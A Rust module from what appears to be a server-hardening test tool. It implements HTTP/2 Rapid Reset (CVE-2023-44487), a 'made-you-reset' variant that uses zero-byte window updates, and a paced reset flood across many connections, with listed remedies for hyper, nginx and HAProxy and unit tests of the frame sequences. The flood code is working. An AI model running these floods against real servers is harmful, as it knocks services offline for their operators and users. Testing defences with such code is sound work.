//! Streams that are reset as soon as they are open: by the client, or by a server that is made to.

use super::{
    frames::{CANCEL, END_STREAM, headers, reset, window_update},
    session::Session,
};
use crate::{
    attacks::{
        attack::{Addresses, Attack, InQuick, Protocol, Takes, remedy},
        pause::reopen,
    },
    machine::{Actions, Event, Machine},
    plan::Plan,
};
use std::time::Duration;

/// The number of requests in a batch, and the time between batches: 2,000 requests a second on
/// each connection.
const BATCH_REQUESTS: usize = 20;
const INTERVAL: Duration = Duration::from_millis(10);

pub(in crate::attacks) fn attacks() -> Vec<Attack> {
    let base = Attack {
        threat: "T15",
        protocol: Protocol::Http2,
        connections: 10,
        addresses: Addresses::Many(10),
        takes: Takes::Work,
        ..Attack::BASE
    };
    vec![
        Attack {
            name: "rapid-reset",
            title: "HTTP/2 requests that are cancelled at once",
            withholds: "nothing: it takes the start of the work",
            stopped_by: "a limit on cancelled requests, after which the connection ends",
            cve: Some("CVE-2023-44487"),
            remedies: const {
                &[
                    remedy(
                        "palisade",
                        "palisade::serve, or ConnGuard with harden for hyper",
                    ),
                    remedy(
                        "hyper",
                        "http2::Builder::max_pending_accept_reset_streams 20",
                    ),
                    remedy("nginx", "1.25.3 or later, keepalive_requests 1000"),
                    remedy(
                        "HAProxy",
                        "3.0 or later, tune.h2.fe.glitches-threshold 1000",
                    ),
                ]
            },
            make: |plan, _| Box::new(Resets::new(plan, Kind::Rapid)),
            ..base.clone()
        },
        Attack {
            name: "made-you-reset",
            in_quick: InQuick::Skipped("rapid-reset takes the same work"),
            title: "HTTP/2 requests with a frame that makes the server reset them",
            withholds: "nothing: it takes the start of the work",
            stopped_by: "a limit on resets that the server sends, after which the connection ends",
            cve: Some("CVE-2025-8671"),
            remedies: const {
                &[
                    remedy(
                        "palisade",
                        "palisade::serve, or ConnGuard with harden for hyper",
                    ),
                    remedy("hyper", "http2::Builder::max_local_error_reset_streams 20"),
                    remedy(
                        "HAProxy",
                        "3.0 or later, tune.h2.fe.glitches-threshold 1000",
                    ),
                ]
            },
            make: |plan, _| Box::new(Resets::new(plan, Kind::MadeYou)),
            ..base.clone()
        },
        Attack {
            name: "paced-reset",
            in_quick: InQuick::Skipped("rapid-reset takes more work"),
            title: "HTTP/2 requests that are cancelled at once, 100 a second on 40 connections",
            withholds: "nothing: each connection stays below a usual limit on its resets",
            stopped_by: "a limit for each client, and one on what is under way in all",
            cve: Some("CVE-2023-44487"),
            connections: 40,
            addresses: Addresses::Many(40),
            remedies: const {
                &[
                    remedy("palisade", "Stack: concurrency_limit and rate_limit"),
                    remedy("axum", "tower's load_shed outside a concurrency limit"),
                    remedy("nginx", "limit_req by $binary_remote_addr"),
                    remedy("HAProxy", "stick-table http_req_rate and http-request deny"),
                ]
            },
            make: |plan, _| Box::new(Resets::new(plan, Kind::Paced)),
            ..base
        },
    ]
}

#[derive(Clone, Copy)]
enum Kind {
    /// Cancels each request.
    Rapid,
    /// Cancels each request, one in each interval.
    Paced,
    /// Opens the window of each request by zero bytes, which is an error of the stream
    /// (RFC 9113 section 6.9).
    MadeYou,
}

struct Resets {
    plan: Plan,
    kind: Kind,
    session: Session,
}

impl Resets {
    fn new(plan: &Plan, kind: Kind) -> Self {
        Self {
            plan: plan.clone(),
            kind,
            session: Session::default(),
        }
    }

    fn batch(&mut self) -> Vec<u8> {
        let mut bytes = Vec::new();
        let requests = match self.kind {
            Kind::Paced => 1,
            Kind::Rapid | Kind::MadeYou => BATCH_REQUESTS,
        };
        for _ in 0..requests {
            let stream = self.session.next_stream();
            match self.kind {
                Kind::Rapid | Kind::Paced => {
                    let fields = self.plan.fields("GET", &self.plan.get);
                    bytes.extend(headers(stream, END_STREAM, &fields));
                    bytes.extend(reset(stream, CANCEL));
                }
                Kind::MadeYou => {
                    let path = self.plan.post.as_ref().unwrap_or(&self.plan.get);
                    bytes.extend(headers(stream, 0, &self.plan.fields("POST", path)));
                    bytes.extend(window_update(stream, 0));
                }
            }
        }
        bytes
    }
}

impl Machine for Resets {
    fn on(&mut self, event: Event<'_>, now: Duration, out: &mut Actions) {
        match event {
            Event::Opened => self.session.open(&[], out),
            Event::Received(bytes) => return self.session.answer(bytes, out),
            Event::Closed => return reopen(now, out),
            Event::Woken => {}
        }
        if now < self.plan.ends {
            out.send(self.batch());
            out.wake_at(now + INTERVAL);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::frames::{HEADERS, PREFACE, RST_STREAM, Reader, SETTINGS, WINDOW_UPDATE};
    use super::*;
    use crate::machine::trace;

    fn kinds(bytes: &[u8]) -> Vec<(u8, u32)> {
        let (mut reader, mut seen) = (Reader::default(), Vec::new());
        reader.read(bytes, |frame| seen.push((frame.kind, frame.stream)));
        seen
    }

    #[test]
    fn rapid_reset_cancels_every_request_at_once() {
        let plan = Plan::new("a");
        let sent = trace(&mut Resets::new(&plan, Kind::Rapid), Duration::from_secs(1));
        assert_eq!(sent.len(), 101);
        let first = kinds(sent[0].1.strip_prefix(PREFACE).unwrap());
        assert_eq!(
            first[..4],
            [(SETTINGS, 0), (HEADERS, 1), (RST_STREAM, 1), (HEADERS, 3)]
        );
        let second = kinds(&sent[1].1);
        assert_eq!(
            (second.len(), second[0]),
            (2 * BATCH_REQUESTS, (HEADERS, 41))
        );
    }

    #[test]
    fn made_you_reset_opens_each_window_by_nothing() {
        let plan = Plan::new("a");
        let sent = trace(&mut Resets::new(&plan, Kind::MadeYou), Duration::ZERO);
        let first = kinds(sent[0].1.strip_prefix(PREFACE).unwrap());
        assert_eq!(first[1..3], [(HEADERS, 1), (WINDOW_UPDATE, 1)]);
    }

    #[test]
    fn a_paced_reset_is_one_request_each_10_ms() {
        let plan = Plan::new("a");
        let sent = trace(&mut Resets::new(&plan, Kind::Paced), Duration::from_secs(1));
        assert_eq!(sent.len(), 101);
        let expected = [(HEADERS, 201), (RST_STREAM, 201)];
        assert_eq!(
            (sent[100].0, kinds(&sent[100].1)),
            (Duration::from_secs(1), expected.into())
        );
    }

    #[test]
    fn a_flood_ends_with_the_attack() {
        let plan = Plan::new("a");
        let sent = trace(
            &mut Resets::new(&plan, Kind::Rapid),
            Duration::from_secs(3_600),
        );
        assert_eq!(sent.last().unwrap(), &(plan.ends, vec![]));
    }
}
